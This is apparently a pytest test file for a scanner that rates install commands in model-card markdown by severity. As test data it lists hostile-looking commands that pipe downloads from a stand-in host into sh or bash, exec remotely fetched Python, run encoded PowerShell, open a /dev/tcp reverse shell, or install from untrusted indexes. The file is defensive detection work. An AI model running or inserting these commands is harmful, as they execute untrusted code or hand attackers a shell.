"""Commands that a card shows are judged however they are written, and honest ones stay low."""

import pytest

from harness.inspecting import inspect_bytes
from pratique.core.finding import Severity

AT = "http://192.0.2.1/x"
HEAD = "# Model\n\nA model.\n\n"
HIGH = [
    f"```bash\ncurl -s {AT} | sh\n```",
    f"~~~\ncurl {AT}|sh\n~~~",
    f"1. Do\n   ```\n   curl {AT} | sh\n   ```",
    f"> ```\n> curl {AT} | sh\n> ```",
    f"```\ncurl -s \\\n  {AT} \\\n  | sh\n```",
    f"First run curl -fsSL {AT} | bash and then start.",
    f"Run ``curl {AT} | sh`` now",
    f"<pre><code>curl -s {AT} &#124; sh</code></pre>",
    f"| a | b |\n|--|--|\n| x | <code>curl {AT} \\| sh</code> |",
    f"```\nwget {AT} -O run.sh\nchmod +x run.sh\n./run.sh\n```",
    f"```\ncurl -LO {AT}.sh\nbash x.sh\n```",
    f'```python\nexec(__import__("urllib.request").request.urlopen("{AT}").read())\n```',
    "```\npowershell -enc SQBFAFgAIAAoAE4AZQB3\n```",
    "`pip install thing --index-url http://192.0.2.1/simple`",
    "```\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n```",
    f"```\nconda install -c {AT} thing\n```",
]
MEDIUM = [
    "```\npip install --extra-index-url https://pypi.evil.example/simple thing\n```",
    "```\npip install https://github.com/x/y/a.whl https://evil.example/thing.tar.gz\n```",
    "```\ncurl -sSL https://raw.githubusercontent.com/somebody/x/main/i.sh | bash\n```",
]
LOW = [
    "```\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n```",
    '```\npowershell -c "irm https://astral.sh/uv/install.ps1 | iex"\n```',
    "```\npip install thing --index-url https://pypi.company.com/simple\n```",
]
SILENT = [
    "```\npip install transformers\npip install git+https://github.com/huggingface/peft\n```",
    "```\npip install torch --index-url https://download.pytorch.org/whl/cu121\n```",
    "```\ngit lfs install\ngit clone https://huggingface.co/x/y\n```",
    "```\ncurl http://localhost:8000/v1/models | python -m json.tool\n```",
    "```\nwget https://repo.anaconda.com/miniconda/M.sh\nbash M.sh\n```",
    "Use npx to start it (see [the guide](https://docs.evil.example/npx)).",
]


def _worst(text: str) -> Severity | None:
    found = [f.severity for f in inspect_bytes(text.encode()).findings if f.rule == "MAL125"]
    return max(found, default=None)


@pytest.mark.parametrize(
    ("severity", "text"),
    [
        (severity, text)
        for severity, many in (
            (Severity.HIGH, HIGH),
            (Severity.MEDIUM, MEDIUM),
            (Severity.LOW, LOW),
            (None, SILENT),
        )
        for text in many
    ],
)
def test_a_command_weighs_what_it_does(severity: Severity | None, text: str) -> None:
    assert _worst(HEAD + text + "\n") == severity


@pytest.mark.parametrize(
    "text",
    [
        f"Model\n=====\n\nUsage::\n\n    curl -s {AT} | sh\n",
        f"INSTALL\n\n1. curl -s {AT} | sh\n",
        f"---\nlicense: mit\n---\nRun `curl -s {AT} | sh`\n",
        HEAD + "using words\n" * 50 + f"```\ncurl {AT} | sh\n```\n",
    ],
)
def test_other_forms_of_prose_are_read_too(text: str) -> None:
    assert _worst(text) == Severity.HIGH


def test_source_is_no_prose() -> None:
    lines = [f"x{n} = call({n})" for n in range(20)]
    assert _worst("# Start\nimport os\n" + "\n".join(lines) + f"\n    # `curl {AT} | sh`\n") is None
